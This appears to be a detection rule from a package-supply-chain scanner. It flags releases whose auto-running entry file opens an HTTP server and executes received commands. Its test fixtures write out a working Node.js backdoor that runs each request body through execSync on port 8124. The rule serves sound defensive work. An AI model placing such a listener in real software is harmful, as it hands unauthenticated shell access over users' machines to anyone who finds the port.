"""This update listens by itself, and executes what others send.

## What it detects
A server that is opened when the release is installed or imported, in a file that starts a program or evaluates code
whose text cannot be known from the file; new to the line. A server that opens when somebody calls for it is no finding.

## Why it matters
A library that is loaded opens no port that nobody asked for. What it executes then comes from whoever finds the port:
a shell without a password.

## What it misses
A server in one file and its orders in another; commands of which a part is known; servers that a function opens.

## References
- MITRE ATT&CK T1059, Command and Scripting Interpreter; T1205, Traffic Signaling
- The sample of a backdoor in the public SpiderScan data set
"""

from collections.abc import Iterator

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, in_tests, package_json, runs_by_itself
from lazaretto.core.update import ArtifactView, Placed, Update

CARD = Card(
    id="commands-served",
    title="Server that executes what it is sent",
    variants={
        "autorun": "Code that runs by itself listens and executes what is not known, as no earlier release did.",
        "first-contact": "There is no earlier release; code that runs by itself listens and executes the unknown.",
    },
    group="flow",
    why="Whoever finds the port has the machine.",
    attack=("T1195.002", "T1059"),
)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_SERVER = (
    "const { execSync } = require('child_process');\n"
    "require('http').createServer((q, s) => {\n  let body = '';\n  q.on('data', (part) => { body += part; });\n"
    "  q.on('end', () => s.end(execSync(body)));\n})"
)

EXAMPLES = (
    Example(
        title="the entry file opens a port, and runs what it is sent",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _SERVER + ".listen(8124);\nmodule.exports = (a) => a;\n",
        },
        expect="autorun",
        at="index.js:5",
    ),
    Example(
        title="first contact with a module that does the same",
        after={"package.json": package_json("1.0.0"), "index.js": _SERVER + ".listen(8124);\n"},
        expect="first-contact",
        at="index.js:5",
    ),
    Example(
        title="a server for development that opens when it is called, and starts what its user configured",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const { exec } = require('child_process');\n"
            "exports.serve = (port, run) => require('http').createServer(() => exec(run)).listen(port);\n",
        },
    ),
    Example(
        title="a module that opens a port and answers by itself",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "require('http').createServer((q, s) => s.end('ok')).listen(8124);\n",
        },
    ),
)

_MESSAGES = {
    "autorun": "listens without being called, and executes what is not known",
    "first-contact": "listens without being called, and executes what is not known",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant; the server is the place."""
    tally = Tally(CARD)
    for pair in update.pairs:
        if pair.before is None or not any(_serves(pair.before)):
            for server, executes in _serves(pair.after):
                tally.add("autorun" if pair.before else "first-contact", pair, server, executes)
    yield from tally.findings(_MESSAGES)


def _serves(view: ArtifactView) -> Iterator[tuple[Placed, Placed]]:
    """Yield each server that opens by itself, with what the same file executes."""
    servers = {
        one.path: one
        for one in view.placed
        if one.fact.kind is Kind.NET_LISTEN and runs_by_itself(one) and not in_tests(one.path)
    }
    for one in view.placed if servers else ():
        executes = one.fact.kind in (Kind.PROCESS_SPAWN, Kind.CODE_EVAL) and not (one.fact.value or "").strip("{}* ")
        if executes and one.path in servers:
            yield servers[one.path], one
